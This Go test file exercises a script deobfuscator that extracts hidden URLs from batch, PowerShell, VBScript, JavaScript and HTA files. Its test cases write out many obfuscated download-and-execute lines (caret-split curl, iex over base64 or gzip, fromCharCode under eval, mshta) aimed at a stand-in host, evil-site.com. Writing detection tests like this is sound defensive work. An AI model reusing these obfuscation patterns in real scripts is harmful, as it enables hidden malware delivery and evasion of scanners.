package payload

import (
	"bytes"
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"lurehound"
)

func undone(name string, b []byte) (lurehound.Indicators, []string) {
	acc := newFound()
	f := file{name: name, r: bytes.NewReader(b), size: int64(len(b))}
	indicators(f, acc)
	problems := readScript(f, acc)
	x, more := acc.result()
	return x, append(problems, more...)
}

func TestScriptKind(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{"", "@echo off\r\nsetlocal\r\n", "bat"},
		{"", "$x = New-Object Net.WebClient\nWrite-Host 'a'", "ps1"},
		{"", "On Error Resume Next\nDim a\nSet a = CreateObject(\"x\")", "vbs"},
		{"", "var a = 1;\nfunction b() { eval(a) }", "js"},
		{"", "<html><HTA:APPLICATION id=x><script language=vbscript>", "hta"},
		{"a.hta", "<script>new ActiveXObject('WScript.Shell')</script>", "hta"},
		{"a.js", "x", "js"}, {"A.VBS", "x", "vbs"}, {"a.cmd", "x", "bat"}, {"a.ps1", "x", "ps1"},
		{"readme.txt", "Set the value, and goto the next page.", ""},
		{"index.html", "<html><head><script>let x = 1</script>", ""},
		{"", "", ""},
	} {
		if got := scriptKind(c.name, c.text); got != c.want {
			t.Errorf("%q %q: %q, want %q", c.name, c.text, got, c.want)
		}
	}
}

func TestScript(t *testing.T) {
	const url = "http://evil-site.com/a.exe"
	b64 := func(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
	codes := func(s string) string {
		var l []string
		for i := range len(s) {
			l = append(l, strings.TrimLeft(string([]byte{'0' + s[i]/100, '0' + s[i]/10%10, '0' + s[i]%10}), "0"))
		}
		return strings.Join(l, ",")
	}
	chars := "'" + strings.Join(strings.Split(url, ""), "','") + "'"
	for name, c := range map[string]struct{ file, text string }{
		"carets":               {"a.bat", "cu^rl h^tt^p://ev^il-si^te.c^om/a.e^xe"},
		"carets at ends":       {"a.bat", "curl http://evil-^\r\nsite.com/a.exe"},
		"concatenated ps1":     {"a.ps1", "iwr ('ht'+'tp://evil' + \"-site.com/a.exe\")"},
		"concatenated lines":   {"a.ps1", "$u = 'http://evil' +\r\n  '-site.com/a.exe'"},
		"concatenated vbs":     {"a.vbs", "u = \"http://evil\" & _\r\n \"-site.com\" & \"/a.exe\""},
		"concatenated js":      {"a.js", "var u = 'http:' + '//evil-site' + \".com/a.exe\";"},
		"brackets":             {"a.ps1", "iex (('http:'+'//ev')+(('il-site')+'.com/a.exe'))"},
		"chr":                  {"a.vbs", "u = Chr(104) & ChrW(&H74) & chr(116) & \"p://evil-site.com/a.exe\""},
		"char":                 {"a.ps1", "$u = [char]104+[char]0x74+[Char](116)+'p://evil-site.com/a.exe'"},
		"fromCharCode":         {"a.js", "eval(String.fromCharCode(" + codes(url) + "))"},
		"escapes":              {"a.js", `f("\x68\u0074tp://evil-site\x2ecom/a.exe")`},
		"joined chars":         {"a.ps1", "$u = -join ([char[]](" + codes(url) + "))"},
		"joined chars at":      {"a.ps1", "$u = [char[]]@(" + codes(url) + ") -join ''"},
		"joined pipeline":      {"a.ps1", "$u = (" + codes(url) + " | % { [char]$_ }) -join ''"},
		"joined before":        {"a.ps1", "$u = -join (" + codes(url) + "|ForEach-Object{[char][int]$_})"},
		"joined literals":      {"a.ps1", "$u = (" + chars + ") -join ''"},
		"joined js":            {"a.js", "var u = [" + chars + "].join('')"},
		"base64 utf-16":        {"a.ps1", "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + b64(wide("iwr "+url)) + "')))"},
		"base64 short":         {"a.js", "f(atob('" + b64([]byte(url)) + "'))"},
		"base64 of a variable": {"a.ps1", "$x = '" + b64([]byte("Invoke-WebRequest "+url)) + "'"},
		"base64 gzip":          {"a.ps1", "$x = FromBase64String('" + b64(gzipped(t, []byte("iwr "+url))) + "')"},
		"base64 in parts":      {"a.js", "atob('" + b64([]byte(url))[:9] + "'+'" + b64([]byte(url))[9:] + "')"},
		"base64 of base64":     {"a.ps1", "$x = '" + b64([]byte("iex('"+b64([]byte("iwr 'http:'+'//evil-site.com/a.exe'                 "))+"')")) + "'"},
		"code in a literal":    {"a.vbs", `Execute("u = ""http:"" & ""//evil-site.com/a.exe""")`},
		"ticks":                {"a.ps1", "cu`rl.exe \"http://evil`-site.com/a.exe\""},
		"page":                 {"a.hta", "<script language=vbscript>CreateObject(\"WScript.Shell\").Run \"mshta http://evil\" & \"-site.com/a.exe\"</script>"},
	} {
		for _, b := range [][]byte{[]byte(c.text), append([]byte{0xff, 0xfe}, wide(c.text)...)} {
			if x, p := undone(c.file, b); !slices.Contains(x.URLs, url) {
				t.Errorf("%s: %q: %q, problems %q", name, c.text, x.URLs, p)
			}
		}
	}
}

// What is hidden stands where its line begins; what is open, where it is.
func TestScriptOffset(t *testing.T) {
	text := "// first ünd\nvar a = 'http://open-site.com/x'; var u = 'http:' + '//evil-site.com/a.exe';\n"
	for _, c := range []struct {
		b    []byte
		unit int64
		base int64
	}{{[]byte(text), 1, 0}, {append([]byte("\xef\xbb\xbf"), text...), 1, 3}, {append([]byte{0xff, 0xfe}, wide(text)...), 2, 2}} {
		x, _ := undone("a.js", c.b)
		line := c.base + c.unit*int64(utf8.RuneCountInString("// first ünd\n"))
		if c.unit == 1 {
			line = c.base + int64(strings.Index(text, "var"))
		}
		for _, p := range x.Where {
			want := line
			if strings.Contains(p.Value, "open-site") {
				want += c.unit * 9
			}
			if strings.HasPrefix(p.Value, "http") && p.Offset != want {
				t.Errorf("%+v, want %d", p, want)
			}
		}
	}
}

// What only looks like obfuscation yields nothing.
func TestScriptTraps(t *testing.T) {
	for _, c := range []struct{ file, text string }{
		{"a.bat", "echo a^\\b ^& echo \"x^y\""},
		{"a.ps1", "$a = 'it''s' + $b + 'x'"},
		{"a.ps1", "$a = (1,2,3) -join ','"},
		{"a.ps1", "$v = '1.2.' + '3.4'"},
		{"a.ps1", "$a = -join $list"},
		{"a.ps1", "[char]$x + 'com'"},
		{"a.vbs", "' \"http:\" is not & \"closed\nx = Chr(n) & \"y\""},
		{"a.js", "var a = 'abc' + x + 'def.com/';"},
		{"a.js", "String.fromCharCode(a, 2, 3)"},
		{"a.js", "var k = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlq'"},
		{"a.js", "var k = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'"},
		{"a.js", "'" + strings.Repeat(`\'`, 500)},
		{"a.txt", "'http:' + '//evil-site.com/a.exe'"},
	} {
		if x, p := undone(c.file, []byte(c.text)); len(x.Where) > 0 || len(p) > 0 {
			t.Errorf("%q: %+v, problems %q", c.text, x.Where, p)
		}
	}
}

func TestScriptLimits(t *testing.T) {
	t.Parallel()
	exe := make([]byte, 4096)
	copy(exe, "MZ")
	exe[60] = 64
	copy(exe[64:], "PE\x00\x00")
	copy(exe[512:], "http://evil-site.com/inner")
	x, p := undone("a.ps1", []byte("$x = '"+base64.StdEncoding.EncodeToString(exe)+"'"))
	if !slices.Contains(p, "the script holds 4096 bytes of type pe in base64, which were searched and not taken apart") || !slices.Contains(x.URLs, "http://evil-site.com/inner") {
		t.Errorf("%q %q", p, x.URLs)
	}
	nested := "iwr http://evil-site.com/"
	for range maxNesting + 2 {
		nested = "$x = '" + base64.StdEncoding.EncodeToString([]byte(nested+strings.Repeat(" ", minBase64))) + "'"
	}
	if _, p := undone("a.ps1", []byte(nested)); len(p) != 1 || !strings.Contains(p[0], "more than 3 times over") {
		t.Errorf("%q", p)
	}
	if _, p := undone("a.vbe", []byte("#@~^AAAA==xx")); len(p) != 1 || !strings.Contains(p[0], "script encoder") {
		t.Errorf("%q", p)
	}
	if _, p := undone("a.js", bytes.Repeat([]byte("// a line\n"), maxScript/10+9)); len(p) != 1 || !strings.Contains(p[0], "only the first") {
		t.Errorf("%q", p)
	}
}

func FuzzScript(f *testing.F) {
	f.Add("a.ps1", "$u = -join ([char[]](104,116)) + ('a'+\"b`n\") + [char]0x41 | % {[char]$_}")
	f.Add("a.js", `[ 'a','b'].join('') + "\x41" + String.fromCharCode(1,2)`)
	f.Add("a.vbs", "x = Chr(&H41) & _\n\"a\"\"b\"")
	f.Add("a.bat", "c^u^rl ^\r\n x")
	f.Fuzz(func(t *testing.T, name, text string) {
		undone(name, []byte(text))
	})
}

func BenchmarkScript(b *testing.B) {
	text := bytes.Repeat([]byte("var u = 'http:' + '//evil-site' + \".com/a.exe\"; f(\"(('(\")\n"), 4000)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		undone("a.js", text)
	}
}
